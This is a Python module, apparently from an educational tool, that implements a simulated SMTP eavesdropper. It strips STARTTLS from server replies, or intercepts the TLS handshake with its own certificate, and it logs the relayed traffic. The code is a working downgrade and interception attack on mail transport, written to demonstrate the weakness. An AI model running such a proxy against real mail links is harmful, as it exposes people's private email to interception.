"""The second eavesdropper: plays the exchanger to the provider, and the provider to the exchanger.

STRIP takes STARTTLS out of the exchanger's answer and refuses it (RFC 3207 §6). CERTIFICATE lets it happen, twice: with
a certificate of his own towards the provider, and as a client of the exchanger behind.
"""

from __future__ import annotations

import asyncio
import ssl
import threading
from collections.abc import Awaitable, Callable, Sequence

from linksec_tui.model.eavesdrop import Direction, ImpostorMode

from .pki import opportunistic
from .smtp_client import MAX_REPLY_LINES
from .streams import Wire
from .tap import LineTap

STEP_SECONDS = 20.0


class Meddler:
    """The impostor's switch (a `model.eavesdrop.Impostor`); a link keeps the mode that it began with."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._mode = ImpostorMode.OFF

    @property
    def mode(self) -> ImpostorMode:
        with self._lock:
            return self._mode

    def switch(self, mode: ImpostorMode) -> None:
        with self._lock:
            self._mode = mode


class Line:
    """One tapped connection: bytes go on as they come, and are recorded."""

    def __init__(self, provider: Wire, dial: Callable[[], Awaitable[Wire]], tap: LineTap) -> None:
        self.provider = provider
        self.tap = tap
        self.number = 0
        self._dial = dial
        self._exchanger: Wire | None = None

    @property
    def exchanger(self) -> Wire:
        assert self._exchanger is not None
        return self._exchanger

    async def connect(self) -> None:
        """To the exchanger; a second time in place of the first."""
        await self.hang_up()
        self._exchanger = await self._dial()

    async def hang_up(self) -> None:
        if self._exchanger is not None:
            await self._exchanger.hang_up()

    async def to_provider(self, content: bytes) -> None:
        self.tap.heard(self.number, Direction.FROM_EXCHANGER, content)
        await self.provider.send(content)

    async def to_exchanger(self, content: bytes) -> None:
        self.tap.heard(self.number, Direction.FROM_PROVIDER, content)
        await self.exchanger.send(content)

    async def pass_on(self) -> None:
        """Both ways at once, until one end has gone."""
        ways = [asyncio.ensure_future(self._up()), asyncio.ensure_future(self._down())]
        try:
            await asyncio.wait(ways, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for way in ways:
                way.cancel()
            await asyncio.gather(*ways, return_exceptions=True)

    async def _up(self) -> None:
        while block := await self.provider.block():
            await self.to_exchanger(block)

    async def _down(self) -> None:
        while block := await self.exchanger.block():
            await self.to_provider(block)


class Meddling:
    """What the impostor does with one connection, up to the moment when he can lean back and read."""

    def __init__(self, line: Line, mode: ImpostorMode, own: ssl.SSLContext, host: str) -> None:
        self._line = line
        self._mode = mode
        self._own = own
        self._host = host

    async def begin(self) -> None:
        """Follows the talk up to the first MAIL or the handshake; what comes after only needs passing on."""
        await self._reply("")
        while True:
            line = await self._command()
            verb = line.partition(b" ")[0].strip().upper()
            if verb == b"STARTTLS":
                if self._mode is ImpostorMode.STRIP:
                    await self._refuse(line)
                    continue
                await self._intercept(line)
                return
            await self._line.to_exchanger(line)
            if verb == b"MAIL":
                return
            await self._reply(verb.decode("ascii", "replace"))

    async def _command(self) -> bytes:
        async with asyncio.timeout(STEP_SECONDS):
            return await self._line.provider.line() + b"\r\n"

    async def _reply(self, verb: str) -> None:
        lines = await self._read_reply()
        if verb == "EHLO" and self._mode is ImpostorMode.STRIP:
            kept = _without_starttls(lines)
            if len(kept) < len(lines):
                self._line.tap.meddled(self._line.number)
            lines = kept
        await self._line.to_provider(b"".join(lines))

    async def _read_reply(self) -> list[bytes]:
        lines: list[bytes] = []
        async with asyncio.timeout(STEP_SECONDS):
            while len(lines) < MAX_REPLY_LINES:
                line = await self._line.exchanger.line()
                lines.append(line + b"\r\n")
                if line[3:4] != b"-":
                    break
        return lines

    async def _refuse(self, line: bytes) -> None:
        self._line.tap.heard(self._line.number, Direction.FROM_PROVIDER, line)
        self._line.tap.meddled(self._line.number)
        await self._line.to_provider(b"502 5.5.1 Command not implemented\r\n")

    async def _intercept(self, line: bytes) -> None:
        """Two handshakes; from here on the line carries what he decrypts."""
        await self._line.to_exchanger(line)
        lines = await self._read_reply()
        accepted = lines[0].startswith(b"220")
        if accepted:
            self._line.tap.meddled(self._line.number)
            await self._impersonate_provider()
        await self._line.to_provider(b"".join(lines))
        if accepted:  # nothing may come between: the provider's first record follows at once
            await self._line.provider.start_tls(self._own)

    async def _impersonate_provider(self) -> None:
        """Towards the exchanger in TLS, or in clear where its TLS does not work: he wants to read, not to protect."""
        try:
            await self._line.exchanger.start_tls(opportunistic(), self._host)
        except (OSError, EOFError, TimeoutError):
            await self._line.connect()
            await self._read_reply()  # the greeting, which the provider has had already


def _without_starttls(lines: Sequence[bytes]) -> list[bytes]:
    """RFC 5321 §4.2: only the last line of a reply has a blank after its code."""
    kept = [line for line in lines if line[4:].strip().upper() != b"STARTTLS"]
    if kept and kept[-1][3:4] == b"-":
        kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
    return kept
